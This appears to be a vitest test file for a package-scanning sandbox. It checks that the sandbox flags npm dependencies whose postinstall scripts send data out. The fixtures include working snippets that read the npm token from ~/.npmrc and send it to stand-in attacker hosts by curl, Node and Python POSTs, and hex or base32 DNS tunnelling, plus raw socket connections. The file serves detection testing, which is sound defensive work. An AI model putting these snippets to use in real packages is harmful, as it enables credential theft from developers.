import { beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../../src/report/report.js';
import { reportOf, submit } from '../../support/client.js';
import { runningService } from '../../support/running-service.js';
import { packProject } from '../../support/tarballs.js';

const service = runningService({ PACKWARDEN_EGRESS_MAX: 'open' });

/** A project with vendored dependencies, each with a script of its own. */
function projectOf(scripts: Readonly<Record<string, Readonly<Record<string, string>>>>): Promise<Buffer> {
  const names = Object.keys(scripts);
  const folders = names.flatMap((name) => {
    const manifest = { name, version: '1.0.0', scripts: { postinstall: 'sh ./run.sh || true' } };
    const files = Object.entries(scripts[name] ?? {}).map(([file, text]) => [`${name}/${file}`, text] as const);
    return [[`${name}/package.json`, manifest] as const, [`${name}/index.js`, ''] as const, ...files];
  });
  const dependencies = Object.fromEntries(names.map((name) => [name, `file:${name}`]));
  return packProject({
    'package.json': { name: 'app', version: '1.0.0', dependencies },
    ...Object.fromEntries(folders),
  });
}

const found = (report: Report, rule: string) => report.findings.filter((finding) => finding.rule === rule);
const decoysBy = (report: Report, name: string) =>
  found(report, 'Decoy left the sandbox').filter((finding) => finding.package?.name === name);

/** Reads the npm token's file and sends it, each in its own way. */
const POSTERS = {
  'by-curl': { 'run.sh': 'curl -s -m 5 --data-binary @$HOME/.npmrc http://curl.attacker.invalid/in' },
  'by-node': {
    'run.sh': 'node post.js',
    // As HTTP clients do that honour http_proxy.
    'post.js': `const proxy = new URL(process.env.http_proxy);
      const body = require('fs').readFileSync(process.env.HOME + '/.npmrc', 'latin1');
      const request = require('http').request({ host: proxy.hostname, port: proxy.port, method: 'POST',
        path: 'http://node.attacker.invalid/in', headers: { host: 'node.attacker.invalid' } });
      request.on('response', (r) => r.resume()).on('error', () => {});
      request.end(Buffer.from(body).toString('base64'));`,
  },
  'by-python': {
    'run.sh': 'python3 post.py',
    'post.py': `import os, urllib.request
body = open(os.environ['HOME'] + '/.npmrc', 'rb').read()
urllib.request.urlopen('http://python.attacker.invalid/in', data=body.hex().encode(), timeout=5)`,
  },
};

const TUNNELS = {
  'tunnel-node': {
    'run.sh': 'node dns.js',
    'dns.js': `const data = require('fs').readFileSync(process.env.HOME + '/.npmrc').toString('hex');
      const parts = data.match(/.{1,30}/g);
      (async () => {
        for (const [i, part] of parts.entries())
          await new Promise((done) => require('dns').lookup(part + '.' + i + '.tunnel-n.invalid', done));
      })();`,
  },
  'tunnel-python': {
    'run.sh': 'python3 dns.py',
    'dns.py': `import base64, os, socket
data = base64.b32encode(open(os.environ['HOME'] + '/.npmrc', 'rb').read()).decode().rstrip('=')
for i in range(0, len(data), 30):
    try: socket.getaddrinfo(data[i:i+30] + '.' + str(i) + '.tunnel-p.invalid', 80)
    except OSError: pass`,
  },
};

describe('a decoy that is sent away', () => {
  let report: Report;
  beforeAll(async () => {
    report = await reportOf(service.url, await submit(service.url, await projectOf({ ...POSTERS, ...TUNNELS })));
  });

  it.each([
    ['by-curl', 'curl.attacker.invalid', 'plain'],
    ['by-node', 'node.attacker.invalid', 'base64'],
    ['by-python', 'python.attacker.invalid', 'hex'],
  ])('in a POST, %s: critical, with decoy, host, and package', (name, host, encoding) => {
    const [finding] = decoysBy(report, name);
    expect(finding, JSON.stringify(found(report, 'Decoy left the sandbox'))).toMatchObject({
      priority: 'CRITICAL',
      decoy: 'npm token',
      alert: {
        output: expect.stringContaining(
          'decoy npm token left the sandbox towards host attacker.invalid'.replace('attacker.invalid', host),
        ),
        output_fields: expect.objectContaining({ 'egress.where': 'body', 'egress.encoding': encoding }),
      },
    });
  });

  it.each([
    ['tunnel-node', 'tunnel-n.invalid', 'hex'],
    ['tunnel-python', 'tunnel-p.invalid', 'base32'],
  ])('in DNS questions of 30-byte labels, %s: critical, and its names are told apart', (name, parent, encoding) => {
    const [finding] = decoysBy(report, name);
    expect(finding, JSON.stringify(found(report, 'Decoy left the sandbox'))).toMatchObject({ decoy: 'npm token' });
    expect(finding?.alert.output_fields).toMatchObject({ 'egress.host': parent, 'egress.encoding': encoding });
    const names = found(report, 'Data in host names').find((one) => one.alert.output_fields['egress.host'] === parent);
    expect(names?.package?.name).toBe(name);
    expect(names?.alert.output_fields['egress.example']).toMatch(/^[a-z0-9]{20,30}\.\d+\.tunnel-/);
  });

  it('the value itself is in no part of the report', () => {
    expect(JSON.stringify({ ...report, findings: [], observations: [], egress: [], log: '' })).not.toMatch(
      /npm_[A-Za-z0-9]{36}/,
    );
    expect(report.verdict).toBe('findings');
    expect(report.incomplete).toEqual([]);
  });

  it('the rows of egress tell the process, bytes and times', () => {
    const row = report.egress.find(({ host }) => host === 'curl.attacker.invalid');
    expect(row).toMatchObject({ via: 'proxy', allowed: false, package: { name: 'by-curl' } });
    expect(row?.process?.cmdline).toContain('curl');
    expect(Date.parse(row?.last ?? '')).toBeGreaterThanOrEqual(Date.parse(row?.first ?? ''));
  });
});

describe('a job', () => {
  it('that asks for none reaches no registry; what it tries directly is a row beside the finding', async () => {
    const tarball = await projectOf({
      direct: {
        'run.sh': `node -e "require('net').connect(4444, '192.0.2.7').on('error', () => {}).setTimeout(300, function () { this.destroy() })"`,
      },
    });
    const answer = await fetch(`${service.url}/v1/jobs?ecosystem=npm&egress=none`, {
      method: 'POST',
      headers: { 'content-type': 'application/octet-stream' },
      body: new Uint8Array(tarball),
    });
    expect(answer.status).toBe(202);
    const { id } = (await answer.json()) as { id: string };
    const report = await reportOf(service.url, id);
    expect(report.egressMode).toBe('none');
    expect(report.egress).toContainEqual(
      expect.objectContaining({
        host: '192.0.2.7',
        port: 4444,
        via: 'direct',
        allowed: false,
        package: expect.objectContaining({ name: 'direct' }),
      }),
    );
    expect(found(report, 'Outbound connection past the gateway')).toHaveLength(1);
    expect(found(report, 'Egress refused by the gateway')).toEqual([]);
  });
});

describe('what knows no proxy', () => {
  let report: Report;
  beforeAll(async () => {
    const raw = (port: number, host: string) =>
      `node -e "require('net').connect(${port}, '${host}', function () { this.end('hello') }).on('error', () => {})"`;
    const packages = {
      posting: { 'run.sh': "curl -sS --noproxy '*' -d facts=1 https://post.attacker.invalid/in" },
      unnamed: { 'run.sh': raw(443, 'raw.attacker.invalid') },
      elsewhere: { 'run.sh': raw(8443, 'port.attacker.invalid') },
    };
    report = await reportOf(service.url, await submit(service.url, await projectOf(packages)));
  });
  const rulesOf = (name: string) => report.findings.filter((one) => one.package?.name === name).map(({ rule }) => rule);

  it.each([
    ['posting', 'post.attacker.invalid', 443],
    ['unnamed', 'raw.attacker.invalid', 443],
    ['elsewhere', 'port.attacker.invalid', null],
  ])('is one finding with the name that was looked up: %s', (name, host, port) => {
    const expected = name === 'posting' ? ['Network tool started'] : [];
    expect(rulesOf(name).toSorted()).toEqual(['Egress refused by the gateway', ...expected]);
    const { output_fields: fields } =
      found(report, 'Egress refused by the gateway').find((one) => one.package?.name === name)?.alert ?? {};
    expect(fields).toMatchObject({ 'egress.host': host, ...(port === null ? {} : { 'egress.port': String(port) }) });
  });

  it('is reported with what it sent, and by which package', () => {
    const row = report.egress.find(({ host, via }) => host === 'post.attacker.invalid' && via === 'transparent');
    expect(row).toMatchObject({ allowed: false, port: 443, package: { name: 'posting' } });
    expect(row?.requests).toEqual([expect.objectContaining({ method: 'POST', path: '/in', body: 'facts=1' })]);
    const elsewhere = report.egress.find(({ host, via }) => host === 'port.attacker.invalid' && via === 'direct');
    expect(elsewhere).toMatchObject({ port: 8443, package: { name: 'elsewhere' } });
    const unnamed = report.egress.find(({ host, via }) => host === 'raw.attacker.invalid' && via === 'transparent');
    expect(unnamed).toMatchObject({ unread: [{ reason: 'not-http', serverName: null }] });
  });
});
